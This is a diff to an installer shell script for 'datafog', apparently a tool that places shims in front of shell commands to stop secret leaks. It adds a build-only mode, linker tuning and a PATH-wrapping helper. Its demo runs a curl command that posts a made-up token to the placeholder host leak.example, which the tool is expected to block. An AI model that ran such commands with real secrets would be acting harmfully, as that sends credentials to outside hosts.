@@ -20,6 +20,7 @@ Options:
   --observe        Only record what would be denied; block nothing
   --no-path        Leave the start files of shells alone
   --yes            Ask nothing (without a terminal nothing is asked anyway)
+  --build-only     Build, print the path of the binary on the last line, and stop
   --dry-run        Show what would be done, and do nothing
   --uninstall      Take it all back; settings, policy and receipts stay
   --purge          With --uninstall: remove settings, policy and receipts too
@@ -52,7 +53,7 @@ misused() {
 
 read_options() {
     root='' from='' shims='' observe=false no_path=false yes=false
-    dry_run=false uninstall=false purge=false
+    build_only=false dry_run=false uninstall=false purge=false
     while [ $# -gt 0 ]; do
         case "$1" in
         --root | --from | --shims)
@@ -64,6 +65,7 @@ read_options() {
         --observe) observe=true ;;
         --no-path) no_path=true ;;
         --yes | -y) yes=true ;;
+        --build-only) build_only=true ;;
         --dry-run) dry_run=true ;;
         --uninstall) uninstall=true ;;
         --purge) purge=true ;;
@@ -126,10 +128,20 @@ can_link_static() {
     "$(compiler)" -static -o "$scratch/try" "$scratch/try.c" >/dev/null 2>&1
 }
 
+# Whether the linker lays functions out in an order that is given to it.
+can_order() {
+    printf 'fn main() {}\n' >"$scratch/try.rs"
+    rustc --target "$host" -C "link-arg=-Wl,--symbol-ordering-file=$source/benches/symbols.txt" \
+        -C link-arg=-Wl,--no-warn-symbol-ordering -o "$scratch/try" "$scratch/try.rs" >/dev/null 2>&1
+}
+
 # Builds the release binary and sets `built` to its path.
 build() {
     host=$(rustc -vV | sed -n 's/^host: //p')
-    flags=${RUSTFLAGS-}
+    # Asking the processor for its hash instructions costs more than a call has to hash.
+    flags="${RUSTFLAGS-} --cfg sha2_backend=\"soft\""
+    # What a call runs lies together: fewer pages to bring in (docs/BENCHMARKS.md).
+    if can_order; then export DATAFOG_SYMBOL_ORDER=1; else unset DATAFOG_SYMBOL_ORDER; fi
     if can_link_static; then
         # One file without a loader, at a fixed address: a shim starts in a third of the time.
         flags="$flags -C target-feature=+crt-static -C relocation-model=static"
@@ -147,7 +159,7 @@ build() {
 
 # Copies beside the place and renames, so that a binary in use is never half written.
 install_binary() {
-    say "  install   $root/bin/datafog"
+    say "Installs $root/bin/datafog"
     (umask 077 && mkdir -p "$root/bin")
     cp "$built" "$root/bin/.datafog.new"
     chmod 755 "$root/bin/.datafog.new"
@@ -202,6 +214,15 @@ made_up_token() {
     printf 'gh%s_%s%s' p "$body" "$check"
 }
 
+# Runs a command as a new terminal would: with the wrappers first on PATH. Asking for more
+# strictness than is installed is always possible, so this also shows where it only observes.
+wrapped() (
+    PATH=$root/shims:$PATH
+    DATAFOG_SHIM_MODE=enforced
+    export PATH DATAFOG_SHIM_MODE
+    "$@"
+)
+
 # The main job, for real: one command that runs and one that does not.
 show() {
     datafog=$root/bin/datafog
@@ -213,7 +234,7 @@ show() {
     say 'This is what it does. An ordinary command runs as ever:'
     if [ -n "$allowed" ]; then
         say "  \$ $allowed --version"
-        "$root/shims/$allowed" --version | sed 's/^/  /;q'
+        wrapped "$allowed" --version | sed 's/^/  /;q'
     else
         say '  $ datafog run -- cat --version'
         "$datafog" run -- cat --version | sed 's/^/  /;q'
@@ -223,9 +244,8 @@ show() {
     say 'the name leak.example is reserved and belongs to nobody.)'
     say "  \$ curl -d \"key=\$TOKEN\" http://leak.example/"
     code=0
-    # Stricter than the installed mode is always possible, so this also shows where it only observes.
     if [ -L "$root/shims/curl" ] && command -v curl >/dev/null 2>&1; then
-        DATAFOG_SHIM_MODE=enforced "$root/shims/curl" -d "key=$(made_up_token)" http://leak.example/ \
+        wrapped curl -d "key=$(made_up_token)" http://leak.example/ \
             >"$scratch/notice" 2>&1 || code=$?
         expected=126
     else
@@ -264,7 +284,10 @@ main() {
     trap 'exit 130' INT
     trap 'exit 143' TERM
     if [ -n "$from" ]; then built=$from; else build; fi
-    say 'Changes:'
+    if [ "$build_only" = true ]; then
+        say "$built"
+        return
+    fi
     install_binary
     run_init "$root/bin/datafog" ||
         fail 'the set-up was not completed' "run $root/bin/datafog init when you are ready"
